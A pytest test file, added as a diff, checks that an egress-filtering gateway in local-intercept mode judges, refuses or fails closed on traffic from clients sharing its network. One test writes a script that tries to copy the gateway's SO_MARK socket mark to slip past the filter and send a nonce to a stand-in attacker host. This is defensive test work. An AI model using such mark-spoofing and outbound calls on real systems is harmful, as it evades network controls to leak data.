@@ -1,0 +1,95 @@
+"""`cofferdam serve`, intercept: local. The clients share the gateway's network: a sidecar, a runner host."""
+from __future__ import annotations
+
+import signal
+
+import pytest
+
+from world import names
+
+ALLOW = ["https://echo.example/", "raw.example:7"]
+# What a container without extra rights has, and no more.
+PLAIN = "setpriv --reuid=65534 --regid=65534 --clear-groups --bounding-set=-all --inh-caps=-all"
+
+
+@pytest.fixture
+def local(served):
+    """A gateway whose clients run beside it."""
+    served.start(ALLOW, intercept="local")
+    for folder in (served.folder, served.state):
+        folder.chmod(0o755)
+    return served
+
+
+def beside(served, command: str):
+    """Runs a client in the gateway's own network namespace, as an ordinary user."""
+    return served.world.run(["sh", "-c", f"exec {PLAIN} sh -c '{command}'"], served.folder, env={"CA": str(served.ca)})
+
+
+def outgoing(served) -> set[str]:
+    """Where packets of this machine went, beside the resolver and the honest servers."""
+    served.world.settle()
+    honest = {names.DNS, names.ORIGIN, names.RAW, names.ORIGIN6, names.RAW6, "192.0.2.9", "10.99.0.1"}
+    return {p.destination for p in served.world.evidence.packets(served.since) if p.source.startswith("10.99.0.2")} - honest
+
+
+def test_clients_beside_the_gateway_are_judged(local, nonce):
+    done = beside(local, f"curl -fsS -m 10 --cacert $CA https://echo.example/{nonce}")
+    assert f"/{nonce}" in done.out, done
+    records = local.await_about(nonce, "http")
+    assert len(records) == 1 and records[0]["decision"]["action"] == "allow", records
+    done = beside(local, "printf hello | socat -t2 - TCP:raw.example:7")
+    assert done.out == "hello", done
+    done = beside(local, f"curl -sS -m 10 -o /dev/null -w %{{http_code}} http://denied.example/{nonce}-no; true")
+    assert "200" not in done.out and done.seconds < 8, done
+    assert local.world.traces(f"{nonce}-no") == [] and outgoing(local) == set()
+
+
+@pytest.mark.parametrize("protocol,port", [("udp", 123), ("udp", 443), ("icmp", 0)])
+def test_other_protocols_are_refused_at_once(local, nonce, protocol, port):
+    probe = f"/usr/bin/python3 {local.world.scripts}/datagram.py {protocol} 8.8.8.8 {port} {nonce}"
+    done = beside(local, probe) if protocol == "udp" else local.world.run(probe, local.folder)
+    assert done.out.startswith("refused") and float(done.out.split()[1]) < 1, done
+    assert local.world.traces(nonce) == [] and outgoing(local) == set()
+
+
+def test_queries_are_judged_even_to_loopback(local, nonce):
+    for server in ("9.9.9.9", "127.0.0.53", "127.0.0.11", names.DNS):
+        for transport in ("+notcp", "+tcp"):
+            good = beside(local, f"dig +time=2 +tries=1 {transport} @{server} echo.example")
+            assert "198.18." in good.out, good
+            bad = beside(local, f"dig +time=2 +tries=1 {transport} @{server} {nonce}.denied.example")
+            assert "REFUSED" in bad.out, bad
+    assert local.world.traces(nonce) == []
+
+
+def test_the_mark_is_not_to_be_had(local, nonce):
+    """SO_MARK, copied by a client that shares the namespace: no effect without a capability."""
+    attempt = ("import socket; s = socket.socket(); s.settimeout(4)\\n"
+               "try: s.setsockopt(socket.SOL_SOCKET, 36, 0xC0FFE)\\nexcept OSError as e: print(e.errno)\\n"
+               f"try: s.connect((\"{names.ATTACKER}\", 80)); s.send(b\"GET /{nonce} HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(100))\\n"
+               "except OSError as e: print(e)\\n")
+    script = local.folder / "mark.py"
+    script.write_text(attempt.replace("\\n", "\n").replace("\\r\n", "\\r\\n"))
+    done = beside(local, f"/usr/bin/python3 {script}")
+    assert done.out.startswith("1\n") and "200" not in done.out, done
+    assert local.world.traces(nonce) == [] and outgoing(local) == set()
+
+
+def test_loopback_is_the_clients_own(local):
+    done = beside(local, "/usr/bin/python3 -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 & "
+                         "for n in 1 2 3 4 5 6 7 8 9; do curl -fs http://127.0.0.1:8123/ >/dev/null && break; sleep 0.2; done; "
+                         "curl -fsS http://localhost:8123/ >/dev/null && echo one; kill $!")
+    assert "one" in done.out, done
+    loop = beside(local, "curl -sS -m 3 -o /dev/null http://127.0.0.1:15001/; true")
+    assert loop.seconds < 3 and len(local.about("127.0.0.1:15001", "connection")) == 1, loop
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
+def test_without_its_gateway_everything_is_refused(local, nonce, number):
+    local.stop(number)
+    done = beside(local, f"curl -sS -m 4 -o /dev/null http://{names.ORIGIN}/{nonce}; "
+                         f"dig +time=1 +tries=1 @{names.DNS} {nonce}.echo.example; true")
+    assert local.world.traces(nonce) == [] and outgoing(local) == set(), done
+    local.start()
+    assert "/again" in beside(local, "curl -fsS -m 10 --cacert $CA https://echo.example/again").out
